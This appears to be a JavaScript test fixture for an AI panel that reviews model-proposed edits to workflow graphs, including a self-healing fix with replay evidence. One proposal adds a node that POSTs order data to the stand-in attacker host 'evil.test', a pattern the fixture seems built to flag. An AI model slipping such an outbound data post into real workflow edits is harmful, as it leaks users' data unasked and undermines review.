/** Proposals for the tests of the AI panel, on one workflow. */

export const ORDERS = {
  id: "orders",
  name: "Order alerts",
  graph: {
    nodes: [
      { id: "start", type: "trigger.manual", position: { x: 0, y: 96 } },
      {
        id: "fetch",
        type: "http.request",
        name: "Fetch orders",
        params: { method: "GET", url: "https://api.example.com/orders" },
        position: { x: 288, y: 96 },
      },
      {
        id: "total",
        type: "code.rhai",
        name: "Total",
        params: { code: "let sum = 0;\nfor order in input.body {\n  sum += order.price;\n}\nsum" },
        position: { x: 576, y: 96 },
      },
      { id: "old", type: "log", name: "Tell nobody", params: { message: "{{ input }}" }, position: { x: 864, y: 96 } },
    ],
    edges: [
      { source: "start", target: "fetch" },
      { source: "fetch", target: "total" },
      { source: "total", target: "old" },
    ],
  },
};

const NONE = { lines: [], newHosts: [], newCredentials: [], triggers: [], code: [], hiddenText: [] };
let count = 0;

export function proposal(workflow, hash, more) {
  const id = `p${++count}`;
  return {
    id,
    workflow,
    base: hash,
    hash: `hash-${id}`,
    title: "A change",
    reason: "",
    origin: { kind: "model", model: "large/careful" },
    problems: [],
    receipts: [],
    made: new Date().toISOString(),
    state: "open",
    parts: [],
    ...more,
    summary: { ...NONE, ...more.summary },
  };
}

/** Adds, changes and removes, in four parts. */
export const alertsPatch = [
  {
    edit: "addNode",
    node: { id: "large", type: "flow.if", name: "Over 100?", params: { condition: "{{ input > 100 }}" } },
  },
  { edit: "connect", edge: { source: "total", target: "large" } },
  {
    edit: "addNode",
    node: {
      id: "alert",
      type: "http.request",
      name: "Post alert",
      params: { method: "POST", url: "https://evil.test/alerts", body: "{{ input }}" },
    },
  },
  { edit: "connect", edge: { source: "large", sourcePort: "true", target: "alert" } },
  {
    edit: "setParam",
    node: "total",
    pointer: "/code",
    value: "let sum = 0;\nfor order in input.body {\n  sum += order.total;\n}\nsum",
  },
  { edit: "removeNode", node: "old" },
];

export const alerts = (hash) =>
  proposal("orders", hash, {
    title: "Post large totals",
    reason: "The total is compared with 100 and posted when it is larger.",
    patch: alertsPatch,
    parts: [
      { id: 0, title: "Add “Over 100?” after Total", edits: [0, 1], needs: [] },
      { id: 1, title: "Add “Post alert” after “Over 100?”", edits: [2, 3], needs: [0] },
      { id: 2, title: "Change the code of Total", edits: [4], needs: [] },
      { id: 3, title: "Remove Tell nobody", edits: [5], needs: [] },
    ],
    summary: {
      lines: ["adds large (flow.if)", "adds alert (http.request)", "changes the code of total", "removes old (log)"],
      newHosts: ["evil.test"],
      newCredentials: ["alerts-key"],
      code: ["total"],
      hiddenText: ["total"],
    },
  });

export const RECEIPTS = [
  {
    prompt: "edit@1f0c33d2",
    model: "large/careful",
    usage: { promptTokens: 3120, completionTokens: 240, costUsd: 0.0042 },
    read: [],
  },
];

/** Fails on an order without a price. */
export const PRICES = {
  id: "prices",
  name: "Prices",
  graph: {
    nodes: [
      { id: "start", type: "trigger.manual", position: { x: 0, y: 96 } },
      {
        id: "price",
        type: "code.rhai",
        name: "Price",
        params: { code: 'if input.price == () { throw "no price"; }\ninput.price' },
        position: { x: 288, y: 96 },
      },
      { id: "tell", type: "log", params: { message: "{{ input }}" }, position: { x: 576, y: 96 } },
    ],
    edges: [
      { source: "start", target: "price" },
      { source: "price", target: "tell" },
    ],
  },
};

const code = (text) => [{ edit: "setParam", node: "price", pointer: "/code", value: text }];
const part = (title) => [{ id: 0, title, edits: [0], needs: [] }];

/** A proven fix, one that needs a live try, and what was tried. */
export function healed(run, frame, hash) {
  const fix = proposal("prices", hash, {
    title: "Read `cost` where `price` was",
    reason: "The input has a field `cost` of the same type where `price` was until now.",
    origin: { kind: "rule", name: "renamed-field" },
    patch: code("input.cost"),
    parts: part("Change the code of Price"),
    mends: [run, frame],
    summary: { lines: ["changes the code of price"], code: ["price"] },
    evidence: {
      fixes: { did: 1, of: 1 },
      keeps: { did: 40, of: 40 },
      downstream: { did: 39, of: 41 },
      changes: [
        { run, frame, nodeId: "price", recorded: '{"a":1,"b":2}', replayed: '{"a":1,"b":3}' },
        { run, frame: frame + 1, nodeId: "tell", recorded: "5", replayed: "6" },
      ],
      wouldSend: [],
      tookMs: 84,
    },
  });
  const live = proposal("prices", hash, {
    title: "Ask the shop for the price",
    reason: "",
    patch: code("input.cost ?? 0"),
    parts: part("Ask the shop"),
    mends: [run, frame],
    summary: { lines: ["changes the code of price"], newHosts: ["shop.example.com"] },
    evidence: {
      fixes: { did: 0, of: 1 },
      keeps: { did: 40, of: 40 },
      downstream: { did: 0, of: 0 },
      changes: [],
      wouldSend: [
        {
          nodeId: "price",
          path: [],
          attempt: 1,
          kind: "http",
          request: { method: "GET", url: "https://shop.example.com/price" },
          recorded: false,
        },
      ],
      tookMs: 20,
    },
  });
  return {
    run,
    frame,
    nodeId: "price",
    diagnosis: {
      kind: "missing-field",
      sentence: "The node Price reads `price`, and the input has no such field any more.",
      evidence: [
        "The input of this frame has the fields: cost, id.",
        "In 40 good frames the field was `price`, a number.",
      ],
      policy: false,
    },
    fixes: [fix],
    needsLiveTry: [live],
    tried: [{ title: "Pass over the node", why: "the output of 40 of 40 good frames changes" }],
    alike: { group: "g1", count: 3, runs: ["r1", "r2", "r3"] },
    exhausted: false,
    tookMs: 143,
  };
}
